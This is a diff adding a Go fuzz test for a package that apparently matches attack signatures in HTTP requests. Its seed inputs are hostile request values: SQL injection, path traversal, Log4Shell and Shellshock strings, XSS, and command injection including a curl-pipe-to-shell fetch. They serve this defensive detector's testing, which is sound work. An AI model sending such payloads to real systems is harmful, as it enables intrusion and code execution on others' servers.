@@ -1,0 +1,51 @@
+package patterns
+
+import (
+	"bytes"
+	"slices"
+	"testing"
+)
+
+// FuzzMatch feeds arbitrary requests to the matcher: it must never panic,
+// must not write to the request, must answer the same twice, and must
+// report each signature at most once.
+func FuzzMatch(f *testing.F) {
+	seeds := [][5]string{
+		{"GET", "/static/app.css", "", browserUA, ""},
+		{"GET", "/item", "id=1%27%20OR%20%271%27%3D%271", "sqlmap/1.7", ""},
+		{"GET", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "", "", ""},
+		{"GET", "/", "x=${jndi:ldap://a/b}", "() { :; };", "${${lower:j}ndi:x}"},
+		{"CONNECT", "foo.com:25", "", "", ""},
+		{"GET", "http://x/ip.php", "", "", ""},
+		{"GET", "/%c0%ae%c0%ae/%u002e%u002e/", "a=..%5c..%5c..%5cwin.ini&cmd=id", "", ""},
+		{"GET", "/backup.zip", "q=%3Cscript%3Ealert(1)%3C/script%3E&u=http://x/s.txt?", "", ""},
+		{"", "", "&&&===&%", "\x00", "%"},
+		{"GET", "/.env", "a=$(curl+x|sh)&b=;id&c=`id`", "", ""},
+	}
+	for _, s := range seeds {
+		f.Add(s[0], s[1], s[2], s[3], s[4])
+	}
+	m, err := Compile(Options{User: []UserPattern{{ID: "u", Field: FieldURI, Regex: `a.*b`, Weight: 1}}})
+	if err != nil {
+		f.Fatal(err)
+	}
+	f.Fuzz(func(t *testing.T, method, path, query, ua, ref string) {
+		r := Request{Method: []byte(method), Path: []byte(path), Query: []byte(query), UA: []byte(ua), Referer: []byte(ref)}
+		hits := m.Match(&r, nil)
+		if !bytes.Equal(r.Path, []byte(path)) || !bytes.Equal(r.Query, []byte(query)) || !bytes.Equal(r.UA, []byte(ua)) ||
+			!bytes.Equal(r.Referer, []byte(ref)) || !bytes.Equal(r.Method, []byte(method)) {
+			t.Fatal("Match modified the request")
+		}
+		seen := map[string]bool{}
+		for _, h := range hits {
+			if seen[h.ID] {
+				t.Fatalf("%s reported twice: %v", h.ID, ids(hits))
+			}
+			seen[h.ID] = true
+		}
+		if again := m.Match(&r, nil); !slices.Equal(ids(again), ids(hits)) {
+			t.Fatalf("second Match %v, first %v", ids(again), ids(hits))
+		}
+		_ = Normalize(&r)
+	})
+}
